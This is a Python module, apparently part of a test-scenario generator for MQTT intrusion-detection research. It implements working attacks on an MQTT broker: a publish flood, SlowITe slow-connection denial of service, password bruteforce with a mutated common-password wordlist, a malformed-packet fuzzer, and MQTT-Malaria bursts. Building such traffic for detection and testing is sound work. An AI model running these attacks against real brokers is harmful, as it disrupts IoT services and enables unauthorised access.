"""The attack classes, over raw TCP sockets (standard library only).

Each function takes the scenario context (broker address, connection log, deadline, stop flag), a
seeded random generator and the scale's parameters, and returns a small dict of what it did. Every
loop is bounded by a count and by ctx.deadline; every socket has a timeout. When the parameters
hold "username" and "password", flood, slowite and malaria log in with them (credentials taken
from a device, on a broker that refuses anonymous clients).
"""

import select
import socket
import string
import threading
import time

from . import mqtt as m

PRINTABLE = (string.ascii_letters + string.digits).encode()


def rand_text(rng, n):
    return bytes(rng.choice(PRINTABLE) for _ in range(n))


def _drain(cl, stop):
    """Read and throw away whatever the broker sends (PUBACKs of the flood)."""
    while not stop.is_set():
        sock = cl.sock
        if sock is None:
            return
        try:
            sock.settimeout(0.2)
            if not sock.recv(65536):
                return
        except socket.timeout:
            continue
        except OSError:
            return


# --- flood -------------------------------------------------------------------------------------
def flood(ctx, rng, p):
    """One client publishing as fast as it can: QoS 0, every ~10th message QoS 1."""
    cl = m.RawClient(ctx.host, ctx.port, ctx.conns, "flood")
    sent = qos1 = 0
    stop = threading.Event()
    try:
        cl.send(m.connect(f"flood-{rng.randrange(16**8):08x}", keepalive=60,
                          username=p.get("username"), password=p.get("password")))
        if cl.wait_for(m.CONNACK) is None:
            raise RuntimeError("flood: no CONNACK")
        t = threading.Thread(target=_drain, args=(cl, stop), daemon=True)
        t.start()
        topics = [f"flood/{rand_text(rng, 6).decode()}" for _ in range(p["topics"])]
        end = min(ctx.deadline, time.monotonic() + p["secs"])
        pid = 0
        while sent < p["count"] and time.monotonic() < end:
            qos = 1 if rng.random() < p["qos1_share"] else 0
            if qos:
                pid = pid % 65535 + 1
                qos1 += 1
            payload = rand_text(rng, rng.randint(*p["payload"]))
            cl.send(m.publish(rng.choice(topics), payload, qos=qos, pid=pid if qos else None))
            sent += 1
        time.sleep(0.2)                       # the last PUBACKs
        cl.send(m.disconnect())
    finally:
        stop.set()
        cl.close()
    return {"publishes": sent, "qos1": qos1}


# --- slowite -----------------------------------------------------------------------------------
def slowite(ctx, rng, p):
    """Many connections with keep-alive 65535 (or one of p["keepalives"]) held open, each sending
    almost nothing.

    Styles: 'idle' (CONNECT, then silence), 'ping' (CONNECT, a PINGREQ now and then), 'trickle'
    (the CONNECT itself sent a byte at a time), 'partial' (CONNECT, then a PUBLISH header whose
    body dribbles in a byte at a time)."""
    styles = ["idle", "ping", "trickle", "partial"]
    weights = p["styles"]
    conns = []
    opened = 0
    end = min(ctx.deadline, time.monotonic() + p["secs"])
    open_until = time.monotonic() + p["open_secs"]
    try:
        for i in range(p["count"]):
            if time.monotonic() >= open_until or ctx.stop.is_set():
                break
            style = rng.choices(styles, weights)[0]
            cid = f"slowite{i}"
            ver = m.V5 if rng.random() < p["v5_share"] else m.V311
            pkt = m.connect(cid, keepalive=rng.choice(p.get("keepalives", [65535])), version=ver,
                            username=p.get("username"), password=p.get("password"))
            try:
                cl = m.RawClient(ctx.host, ctx.port, ctx.conns, "slowite", timeout=3)
            except OSError:
                continue
            cl.sock.setblocking(False)
            st = {"cl": cl, "style": style, "next": time.monotonic() + rng.uniform(0.5, 2.0),
                  "pending": b""}
            if style == "trickle":
                st["pending"] = pkt
            else:
                _send_nb(cl, pkt)
                if style == "partial":
                    body = m.publish(f"slow/{i}", rand_text(rng, rng.randint(20, 80)), qos=1, pid=1)
                    _send_nb(cl, body[:2])
                    st["pending"] = body[2:]
            conns.append(st)
            opened += 1
            if i % 20 == 19:
                time.sleep(p["open_pause"])
        # Hold: each connection wakes up now and then and sends one small thing.
        pings = trickled = 0
        while time.monotonic() < end and not ctx.stop.is_set():
            now = time.monotonic()
            for st in conns:
                if st["cl"].sock is None or now < st["next"]:
                    continue
                s = st["style"]
                if s == "ping":
                    _send_nb(st["cl"], m.pingreq())
                    pings += 1
                    st["next"] = now + rng.uniform(*p["ping_every"])
                elif s in ("trickle", "partial") and st["pending"]:
                    _send_nb(st["cl"], st["pending"][:1])
                    st["pending"] = st["pending"][1:]
                    trickled += 1
                    st["next"] = now + rng.uniform(*p["byte_every"])
                else:
                    st["next"] = end + 1
            _read_all(conns)
            time.sleep(0.05)
    finally:
        for st in conns:
            st["cl"].close()
    styles_used = {s: sum(1 for c in conns if c["style"] == s) for s in styles}
    return {"connections": opened, "pings": pings, "trickled_bytes": trickled, **styles_used}


def _send_nb(cl, data):
    try:
        cl.sock.send(data)
    except (BlockingIOError, OSError):
        pass


def _read_all(conns):
    socks = [st["cl"].sock for st in conns if st["cl"].sock is not None]
    for i in range(0, len(socks), 500):
        try:
            r, _, _ = select.select(socks[i:i + 500], [], [], 0)
        except (OSError, ValueError):
            return
        for s in r:
            try:
                s.recv(4096)
            except OSError:
                pass


# --- bruteforce --------------------------------------------------------------------------------
BASE_WORDS = ["password", "admin", "123456", "qwerty", "letmein", "welcome", "mqtt", "broker",
              "iot", "home", "sensor", "raspberry", "dragon", "monkey", "sunshine", "master",
              "secret", "default", "changeme", "mosquitto", "football", "shadow", "superman",
              "trustno1", "hello", "freedom", "whatever", "smarthome", "gateway", "zigbee"]


def wordlist(rng, n):
    """n distinct password guesses: common words and the usual mutations."""
    out, seen = [], set()
    tries = 0
    while len(out) < n and tries < n * 50:
        tries += 1
        w = rng.choice(BASE_WORDS)
        r = rng.random()
        if r < 0.25:
            w = w.capitalize()
        elif r < 0.35:
            w = w.upper()
        elif r < 0.45:
            w = w.replace("a", "4").replace("e", "3").replace("o", "0")
        r = rng.random()
        if r < 0.4:
            w += str(rng.randint(0, 99))
        elif r < 0.55:
            w += str(rng.randint(1990, 2025))
        elif r < 0.65:
            w += rng.choice("!@#$")
        if w not in seen:
            seen.add(w)
            out.append(w)
    return out


def bruteforce(ctx, rng, p, real_user, real_password):
    """CONNECT after CONNECT with guessed credentials, one TCP connection per attempt."""
    users = list(p["users"]) + [real_user]
    guesses = wordlist(rng, p["count"])
    refused = accepted = attempts = 0
    end = min(ctx.deadline, time.monotonic() + p["secs"])
    plan = [(users[i % len(users)], g) for i, g in enumerate(guesses)]
    if p.get("final_success"):
        plan = plan[:max(0, p["count"] - 1)] + [(real_user, real_password)]
    tool_id = rand_text(rng, 4).decode()
    for user, guess in plan:
        if time.monotonic() >= end or ctx.stop.is_set():
            break
        try:
            cl = m.RawClient(ctx.host, ctx.port, ctx.conns, "bruteforce", timeout=3)
        except OSError:
            continue
        attempts += 1
        try:
            cl.send(m.connect(f"bf-{tool_id}-{attempts}", keepalive=60, username=user,
                              password=guess))
            ack = cl.wait_for(m.CONNACK, timeout=2)
            if ack is not None and len(ack[2]) >= 2:
                if ack[2][1] == 0:
                    accepted += 1
                    cl.send(m.disconnect())
                else:
                    refused += 1
        except OSError:
            pass
        finally:
            cl.close()
        time.sleep(rng.uniform(*p["pause"]))
    return {"attempts": attempts, "refused": refused, "accepted": accepted}


# --- malformed ---------------------------------------------------------------------------------
def _good_connect(rng, ver=m.V311):
    return m.connect(f"fz-{rng.randrange(16**6):06x}", keepalive=30, version=ver)


def _bad_varint(rng):
    return rng.choice([b"\xff\xff\xff\xff\x7f", b"\x80\x80\x80\x80\x01", b"\xff\xff\xff\xff"])


def _cases():
    """(name, function(rng) -> list of byte strings, sent one after the other)."""
    C = []

    def case(f):
        C.append((f.__name__, f))
        return f

    @case
    def reserved_type_0(rng):
        return [_good_connect(rng), bytes([rng.randrange(16)]) + b"\x02\x00\x01"]

    @case
    def reserved_type_15_v311(rng):
        return [_good_connect(rng), b"\xf0\x02\x00\x00"]

    @case
    def publish_qos3(rng):
        body = m.mstr("home/livingroom/temperature") + m.u16(rng.randint(1, 999)) + b"21.5"
        return [_good_connect(rng), m.packet(m.PUBLISH, 0x06 | rng.choice([0, 1, 8]), body)]

    @case
    def subscribe_bad_flags(rng):
        pkt = bytearray(m.subscribe(rng.randint(1, 999), [("home/#", 1)]))
        pkt[0] = 0x80 | rng.choice([0, 1, 4, 8, 15])
        return [_good_connect(rng), bytes(pkt)]

    @case
    def pubrel_bad_flags(rng):
        return [_good_connect(rng), bytes([0x60 | rng.choice([0, 1, 4, 8])]) + b"\x02\x00\x07"]

    @case
    def pingreq_with_body(rng):
        return [_good_connect(rng), b"\xc0\x03" + rand_text(rng, 3)]

    @case
    def connect_bad_varint(rng):
        return [b"\x10" + _bad_varint(rng) + rand_text(rng, 12)]

    @case
    def publish_non_minimal_length(rng):
        body = m.mstr("home/x") + b"1"
        # The right length, in two bytes where one would do (0x80|n, 0x00).
        return [_good_connect(rng), b"\x30" + bytes([0x80 | len(body), 0x00]) + body]

    @case
    def length_longer_than_data(rng):
        return [_good_connect(rng), b"\x30\x7f" + m.mstr("home/a") + b"xy"]

    @case
    def connect_truncated(rng):
        pkt = _good_connect(rng)
        cut = rng.randint(4, len(pkt) - 1)
        # Remaining length says the whole packet, but the bytes stop early; then silence.
        return [pkt[:cut]]

    @case
    def connect_protoname_too_long(rng):
        vh = m.u16(40) + b"MQTT" + bytes([4, 2]) + m.u16(30)
        return [m.packet(m.CONNECT, 0, vh + m.mstr("x"))]

    @case
    def connect_wrong_protocol_name(rng):
        name = rng.choice([b"MQTX", b"mqtt", b"HTTP", b"MQIsdpX", b"\x00\x00\x00\x00"])
        vh = m.mstr(name) + bytes([4, 2]) + m.u16(30)
        return [m.packet(m.CONNECT, 0, vh + m.mstr(f"fz-{rng.randrange(999)}"))]

    @case
    def connect_wrong_level(rng):
        vh = m.mstr("MQTT") + bytes([rng.choice([0, 1, 2, 6, 7, 0x7f, 0xff]), 2]) + m.u16(30)
        return [m.packet(m.CONNECT, 0, vh + m.mstr(f"fz-{rng.randrange(999)}"))]

    @case
    def connect_reserved_flag(rng):
        vh = m.mstr("MQTT") + bytes([4, 0x03]) + m.u16(30)
        return [m.packet(m.CONNECT, 0, vh + m.mstr("fz-r"))]

    @case
    def connect_password_without_user(rng):
        vh = m.mstr("MQTT") + bytes([4, 0x42]) + m.u16(30)
        return [m.packet(m.CONNECT, 0, vh + m.mstr("fz-p") + m.mstr("hunter2"))]

    @case
    def connect_will_qos3(rng):
        vh = m.mstr("MQTT") + bytes([4, 0x1e]) + m.u16(30)
        return [m.packet(m.CONNECT, 0, vh + m.mstr("fz-w") + m.mstr("will/t") + m.mstr("bye"))]

    @case
    def clientid_invalid_utf8(rng):
        bad = rng.choice([b"\xc0\xaf", b"\xff\xfe", b"\xed\xa0\x80", b"ab\x00cd", b"\xe2\x82"])
        vh = m.mstr("MQTT") + bytes([4, 2]) + m.u16(30)
        return [m.packet(m.CONNECT, 0, vh + m.mstr(b"fz-" + bad))]

    @case
    def topic_invalid_utf8(rng):
        bad = rng.choice([b"home/\xc0\xaf", b"home/\xff", b"home/\x00/x", b"\xed\xa0\x80"])
        return [_good_connect(rng), m.publish(bad, b"1", qos=0)]

    @case
    def publish_topic_too_long(rng):
        body = m.u16(rng.randint(300, 60000)) + b"home/t" + b"42"
        return [_good_connect(rng), m.packet(m.PUBLISH, 0, body)]

    @case
    def publish_wildcard_topic(rng):
        return [_good_connect(rng), m.publish(rng.choice(["home/#", "home/+/x", "#"]), b"1")]

    @case
    def subscribe_empty(rng):
        return [_good_connect(rng), m.packet(m.SUBSCRIBE, 2, m.u16(rng.randint(1, 999)))]

    @case
    def subscribe_bad_qos(rng):
        return [_good_connect(rng), m.packet(m.SUBSCRIBE, 2, m.u16(5) + m.mstr("home/#") +
                                             bytes([rng.choice([3, 0x44, 0xff])]))]

    @case
    def v5_property_length_oversized(rng):
        vh = m.mstr("MQTT") + bytes([5, 2]) + m.u16(30) + m.varint(rng.randint(5000, 2**27)) + \
            b"\x11\x00\x00\x00\x0a"
        return [m.packet(m.CONNECT, 0, vh + m.mstr("fz-v5"))]

    @case
    def v5_unknown_property(rng):
        props = bytes([rng.choice([0x00, 0x04, 0x30, 0x7f])]) + b"\x01\x02"
        vh = m.mstr("MQTT") + bytes([5, 2]) + m.u16(30) + m.varint(len(props)) + props
        return [m.packet(m.CONNECT, 0, vh + m.mstr("fz-v5u"))]

    @case
    def v5_publish_bad_props(rng):
        props = b"\x23\x00\x00" + b"\x01\x05"      # topic alias 0, payload format 5
        body = m.mstr("home/x") + m.varint(len(props) + 40) + props + b"x"
        return [_good_connect(rng, m.V5), m.packet(m.PUBLISH, 0, body)]

    @case
    def second_connect(rng):
        return [_good_connect(rng), _good_connect(rng)]

    @case
    def garbage_after_connect(rng):
        return [_good_connect(rng), bytes(rng.randrange(256) for _ in range(rng.randint(8, 200)))]

    @case
    def garbage_only(rng):
        return [bytes(rng.randrange(256) for _ in range(rng.randint(4, 120)))]

    return C


CASES = _cases()


def malformed(ctx, rng, p, cases=None):
    """One raw TCP connection per fuzzed message (mutated or deliberately invalid MQTT).

    Every case (of `cases`, default CASES) is used once first, then cases are drawn at random; a
    few workers run side by side because the broker often just waits for the rest of a broken
    packet."""
    import random
    cases = cases or CASES
    plan = []
    for i in range(p["count"]):
        name, f = cases[i] if i < len(cases) else rng.choice(cases)
        plan.append((name, f, rng.randrange(2**32), rng.uniform(*p["pause"])))
    used = {}
    lock = threading.Lock()
    nxt = [0]
    end = min(ctx.deadline, time.monotonic() + p["secs"])

    def worker(index):
        ctx.thread_init(index)
        while time.monotonic() < end and not ctx.stop.is_set():
            with lock:
                i = nxt[0]
                if i >= len(plan):
                    return
                nxt[0] += 1
            name, f, seed, pause = plan[i]
            chunks = f(random.Random(seed))
            try:
                cl = m.RawClient(ctx.host, ctx.port, ctx.conns, "malformed", timeout=2)
            except OSError:
                continue
            try:
                for j, c in enumerate(chunks):
                    cl.send(c)
                    if j + 1 < len(chunks):
                        cl.read_packet(timeout=0.15)        # CONNACK of the valid CONNECT
                cl.read_packet(timeout=p["linger"])         # whatever the broker makes of it
            except OSError:
                pass
            finally:
                cl.close()
            with lock:
                used[name] = used.get(name, 0) + 1
            time.sleep(pause)

    threads = [threading.Thread(target=worker, args=(k,), daemon=True)
               for k in range(p["workers"])]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.1, ctx.deadline - time.monotonic() + 5))
    return {"connections": sum(used.values()), "cases": dict(sorted(used.items()))}


# --- malaria -----------------------------------------------------------------------------------
def _malaria_client(ctx, rng, p, idx, stats):
    cid = f"mqtt-malaria-{p['host_tag']}-{idx}"
    cl = m.RawClient(ctx.host, ctx.port, ctx.conns, "malaria", timeout=3)
    try:
        cl.send(m.connect(cid, keepalive=60, username=p.get("username"),
                          password=p.get("password")))
        if cl.wait_for(m.CONNACK, timeout=3) is None:
            return
        n = rng.randint(*p["burst"])
        pending = {}
        out = []
        for k in range(n):
            qos = 1 if rng.random() < p["qos1_share"] else 2
            pid = k + 1
            topic = f"mqtt-malaria/{cid}/data/{rng.randrange(p['topics'])}"
            payload = rand_text(rng, rng.randint(*p["payload"]))
            out.append(m.publish(topic, payload, qos=qos, pid=pid))
            pending[pid] = qos
            stats["qos1" if qos == 1 else "qos2"] += 1
        cl.send(b"".join(out))
        deadline = min(ctx.deadline, time.monotonic() + 5)
        while pending and time.monotonic() < deadline:
            pkt = cl.read_packet(timeout=max(0.05, deadline - time.monotonic()))
            if pkt is None:
                break
            t, _f, body = pkt
            pid = int.from_bytes(body[:2], "big") if len(body) >= 2 else 0
            if t == m.PUBACK or t == m.PUBCOMP:
                pending.pop(pid, None)
            elif t == m.PUBREC:
                cl.send(m.ack(m.PUBREL, pid))
        stats["unacked"] += len(pending)
        cl.send(m.disconnect())
    except OSError:
        pass
    finally:
        cl.close()


def malaria(ctx, rng, p):
    """Many short-lived clients, each publishing a burst at QoS 1/2 to many topics."""
    import random
    p = dict(p, host_tag=rand_text(rng, 6).decode())
    stats = {"clients": 0, "qos1": 0, "qos2": 0, "unacked": 0}
    seeds = [rng.randrange(2**32) for _ in range(p["clients"])]
    lock = threading.Lock()
    nxt = [0]
    end = min(ctx.deadline, time.monotonic() + p["secs"])

    def worker(index):
        ctx.thread_init(index)
        while time.monotonic() < end and not ctx.stop.is_set():
            with lock:
                i = nxt[0]
                if i >= len(seeds):
                    return
                nxt[0] += 1
            local = {"qos1": 0, "qos2": 0, "unacked": 0}
            try:
                _malaria_client(ctx, random.Random(seeds[i]), p, i, local)
            except OSError:
                continue
            with lock:
                stats["clients"] += 1
                for k, v in local.items():
                    stats[k] += v
            time.sleep(p["pause"])

    threads = [threading.Thread(target=worker, args=(k,), daemon=True)
               for k in range(p["workers"])]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.1, ctx.deadline - time.monotonic() + 5))
    return stats
